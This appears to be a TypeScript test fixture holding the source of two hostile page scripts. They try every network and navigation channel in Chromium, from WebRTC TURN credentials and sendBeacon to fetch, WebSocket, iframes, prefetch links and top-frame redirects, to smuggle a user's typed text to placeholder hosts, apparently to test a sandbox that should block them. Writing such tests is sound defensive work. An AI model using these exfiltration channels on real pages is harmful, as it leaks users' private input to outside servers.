/** Where the hostile script tries to get: addresses and names of no one, and this machine's own. */
const ADDRESS = '10.9.9.9';

/**
 * The source of a function that tries every way to a network that a page of Chromium has, with what a person typed
 * as what is smuggled out. Its promise resolves to the number of tries when each has come to its end.
 */
export const HOSTILE_SCRIPT = `async (typed) => {
  const servers = [
    {
      urls: ['turn:${ADDRESS}:3478?transport=tcp', 'turns:${ADDRESS}:5349', 'turn:127.0.0.1:3478?transport=tcp',
        'turn:turn-name.example:3478?transport=tcp', 'turn:turn-udp.example:3478'],
      username: typed, credential: 'x',
    },
    { urls: ['stun:${ADDRESS}:3478', 'stun:127.0.0.1:3478', 'stun:stun-name.example:3478'] },
  ];
  const call = async (scope) => {
    const peer = new scope.RTCPeerConnection({ iceServers: servers });
    const other = new scope.RTCPeerConnection();
    const gathered = new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await other.setRemoteDescription(peer.localDescription);
    await other.setLocalDescription(await other.createAnswer());
    await peer.setRemoteDescription(other.localDescription);
    const host = (kind, where) => ({ candidate: 'candidate:1 1 ' + kind + ' 2122260223 ' + where, sdpMid: '0' });
    for (const candidate of [
      host('tcp', '${ADDRESS} 80 typ host tcptype passive'), host('udp', '${ADDRESS} 5000 typ host'),
      host('udp', 'candidate-name.example 5000 typ host'), host('udp', 'candidate-name.local 5000 typ host'),
    ]) await peer.addIceCandidate(candidate).catch(() => undefined);
    await gathered;
  };
  const frame = (more) => document.body.appendChild(Object.assign(document.createElement('iframe'), more));
  const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  const link = (rel, more) => () => add('link', { rel, href: 'http://' + rel + '.example/', ...more });
  const tries = [
    () => call(window),
    () => call(frame({}).contentWindow),
    () => call(frame({ srcdoc: '<p>' }).contentWindow),
    () => call(frame({ src: 'about:blank' }).contentWindow),
    ...['stylesheet', 'prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'icon', 'manifest',
      'prerender'].map((rel) => link(rel, { as: 'image' })),
    () => fetch('http://fetch.example/', { mode: 'no-cors' }),
    () => fetch('http://${ADDRESS}/', { mode: 'no-cors' }),
    () => fetchLater('https://later.example/', { activateAfter: 0 }),
    () => navigator.sendBeacon('http://beacon.example/', typed),
    () => new WebSocket('ws://socket.example/'),
    () => new WebSocket('ws://${ADDRESS}/'),
    () => new WebSocketStream('ws://stream.example/').opened,
    () => new WebTransport('https://${ADDRESS}:4433/').ready,
    () => new WebTransport('https://transport.example:4433/').ready,
    () => new EventSource('http://events.example/'),
    () => new Worker('http://worker.example/'),
    () => new PaymentRequest([{ supportedMethods: 'https://pay.example/' }],
      { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment(),
    () => navigator.credentials.get({ identity: { providers: [{ configURL: 'https://id.example/', clientId: 'x' }] } }),
    () => new webkitSpeechRecognition().start(),
    () => import('http://module.example/'),
    () => add('img', { src: 'http://image.example/' }),
    () => add('video', { src: 'http://video.example/', poster: 'http://poster.example/' }),
    () => add('object', { data: 'http://object.example/' }),
    () => add('embed', { src: 'http://embed.example/' }),
    () => add('script', { src: 'http://script.example/' }),
    () => add('script', { type: 'speculationrules',
      textContent: '{"prefetch":[{"source":"list","urls":["https://speculation.example/"]}]}' }),
    () => add('style', { textContent: '@import url(http://import.example/); body { background: url(http://css.example/) }' }),
    () => frame({ src: 'http://frame.example/' }),
    () => frame({ src: 'http://${ADDRESS}/' }),
    () => window.open('http://window.example/'),
  ];
  // What is refused, by an exception or a rejection, is as it should be. Some never answer: what counts is whether
  // the four calls have come to their ends.
  const done = tries.map(async (attempt) => { try { await attempt(); } catch { /* refused */ } });
  await Promise.all(done.slice(0, 4));
  return tries.length;
}`;

/** The source of a function that goes elsewhere in every way that a page has; a frame may be emptied by it. */
export const HOSTILE_NAVIGATION = `(typed) => {
  const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
  for (const attempt of [
    () => add('a', { href: 'http://download.example/', download: 'x', ping: 'http://ping.example/' }).click(),
    () => add('a', { href: 'http://link.example/', target: '_blank' }).click(),
    () => (top.location = 'http://top.example/' + typed),
    () => add('form', { action: 'http://form.example/', method: 'post' }).submit(),
    () => add('meta', { httpEquiv: 'refresh', content: '0; url=http://refresh.example/' }),
    () => (location = 'http://location.example/' + typed),
  ]) try { attempt(); } catch { /* refused */ }
}`;
